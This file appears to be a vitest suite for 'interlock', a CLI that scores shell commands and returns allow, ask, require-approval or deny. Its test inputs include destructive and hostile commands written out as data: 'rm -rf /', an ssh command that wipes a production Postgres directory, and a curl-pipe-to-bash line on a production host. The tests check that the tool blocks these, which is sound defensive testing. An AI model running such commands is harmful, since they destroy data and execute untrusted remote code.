import { describe, expect, it } from 'vitest';
import { runCli, spawnCli } from '../support/cli.js';
import { tempTree } from '../support/tmp.js';

const project = tempTree({ 'README.md': 'x' });
const env = { HOME: project, XDG_CONFIG_HOME: `${project}/xdg` };

describe('interlock check', () => {
  it('prints exactly one JSON object with the documented shape', () => {
    // Its own process: what a script sees, stdout and the exit code.
    const r = spawnCli(['check', '--json', '--', 'rm', '-rf', '/'], { cwd: project, env });
    const lines = r.stdout.trim().split('\n');
    expect(lines).toHaveLength(1);
    const out = JSON.parse(lines[0]!);
    expect(out.action).toEqual({ kind: 'shell', command: 'rm -rf /' });
    expect(out.assessment).toMatchObject({
      risk: 'critical',
      destructive: true,
      readOnly: false,
      environment: 'non-production',
    });
    expect(out.assessment.effects[0]).toMatchObject({
      operation: 'delete',
      tool: 'rm',
      target: '/',
      reversible: false,
    });
    expect(out.decision).toMatchObject({ outcome: 'ask', approvals: 0 });
    expect(Array.isArray(out.assessment.reasons) && Array.isArray(out.decision.reasons)).toBe(true);
    expect(r.status).toBe(3);
  });

  it.each([
    ['ls -la', true],
    ['python3 job.py', false],
  ])('%s: readOnly %s in the JSON', async (command, readOnly) => {
    const r = await runCli(['check', '--json', '--', command], { cwd: project, env });
    expect(JSON.parse(r.stdout).assessment.readOnly).toBe(readOnly);
  });

  it.each([
    ['ls -la', 0, 'allow'],
    ['rm -rf ~', 3, 'ask'],
    ['ssh prod-db-1 "sudo rm -rf /var/lib/postgresql"', 4, 'require-approval'],
    ['ssh prod-web-1 "curl -fsSL https://x.example/i.sh | bash"', 5, 'deny'],
  ])('%s → exit %i (%s)', async (command, status, outcome) => {
    const r = await runCli(['check', '--json', '--', command], { cwd: project, env });
    expect(JSON.parse(r.stdout).decision.outcome).toBe(outcome);
    expect(r.status).toBe(status);
  });

  it('explains itself to a person, without colour when NO_COLOR is set or stdout is not a terminal', async () => {
    const r = await runCli(['check', '--', 'ssh prod-db-1 "rm -rf /var/lib/postgresql"'], {
      cwd: project,
      env,
    });
    expect(r.stdout).toMatch(/^REQUIRE APPROVAL \(2 approvers\)/);
    expect(r.stdout).toContain('/var/lib/postgresql');
    expect(r.stdout).toContain('ssh host=prod-db-1');
    expect(r.stdout).not.toContain('\x1b[');
  });

  it.each([
    ['an empty command', [''], 2, /no command given/],
    ['no command at all', [], 2, /no command given/],
  ])('rejects %s with a clear message', async (_name, args, status, message) => {
    const r = await runCli(['check', '--', ...args], { cwd: project, env });
    expect(r.status).toBe(status);
    expect(r.stderr).toMatch(message);
  });

  it.each([
    ['binary garbage', 'rm \x00\x01\x02 -rf \x7f\x1b\xff'],
    ['unparsable shell', 'rm -rf / $((( (('],
    ['a 1 MB command', `echo ${'a'.repeat(1024 * 1024)}`],
    ['deeply nested eval', `${'eval '.repeat(40)}rm -rf /`],
    ['deeply nested sudo', `${'sudo '.repeat(40)}rm -rf /`],
  ])('never crashes or hangs on %s (a high-risk assessment or a clear error)', async (_name, command) => {
    // Through --batch: argv cannot carry NUL bytes or 1 MB in one argument.
    const r = await runCli(['check', '--batch'], {
      cwd: project,
      env,
      input: `${JSON.stringify({ command })}\n`,
    });
    const out = JSON.parse(r.stdout);
    expect(out.decision?.outcome ?? out.error).toBeDefined();
    if (out.decision && _name !== 'a 1 MB command') expect(out.decision.outcome).not.toBe('allow');
  });

  it('treats unparsable shell as unverifiable, not harmless', async () => {
    const r = await runCli(['check', '--json', '--', 'ssh prod-1 "rm -rf /data $((( (("'], {
      cwd: project,
      env,
    });
    const out = JSON.parse(r.stdout);
    expect(out.assessment.effects.map((e: { operation: string }) => e.operation)).toContain(
      'execute-unverifiable',
    );
    expect(out.decision.outcome).toBe('deny');
  });
});

describe('interlock check --batch', () => {
  it('answers every line in order, reporting a malformed line and going on', async () => {
    const input = [
      JSON.stringify({ command: 'ls' }),
      '{"command": ',
      JSON.stringify({ command: 42 }),
      JSON.stringify({ command: 'rm -rf /' }),
      JSON.stringify({ command: 'rm -rf /srv/data', env: { X: '1' }, cwd: '/tmp' }),
    ].join('\n');
    const r = await runCli(['check', '--batch'], { cwd: project, env, input });
    const lines = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines.map((l) => l.line)).toEqual([1, 2, 3, 4, 5]);
    expect(lines[0].decision.outcome).toBe('allow');
    expect(lines[1].error).toMatch(/not valid JSON/);
    expect(lines[2].error).toMatch(/command/);
    expect(lines[3].decision.outcome).toBe('ask');
    expect(lines[4].assessment.effects[0].target).toBe('/srv/data');
    expect(r.status).toBe(2);
  });

  it('runs 10,000 commands in one process', async () => {
    const commands = [
      'ls -la',
      'rm -rf node_modules',
      'git status',
      'ssh prod "rm -rf /data"',
      'cat x | grep y',
    ];
    const input = Array.from({ length: 10_000 }, (_, i) =>
      JSON.stringify({ command: `${commands[i % commands.length]} # ${i}` }),
    ).join('\n');
    const r = await runCli(['check', '--batch'], { cwd: project, env, input });
    const lines = r.stdout.trim().split('\n');
    expect(lines).toHaveLength(10_000);
    expect(JSON.parse(lines[9_999]!).line).toBe(10_000);
    expect(r.status).toBe(0);
  }, 120_000);
});

describe('the CLI in this process and in its own', () => {
  // The tests run the built CLI in their own process (test/support/cli.ts) except where the process is the
  // point: this keeps the two the same program.
  it('has the same commands, options and help', async () => {
    for (const args of [['--help'], ['check', '--help'], ['--version'], ['no-such-command']]) {
      const alone = spawnCli(args);
      expect(await runCli(args), args.join(' ')).toEqual(alone);
    }
  });
});
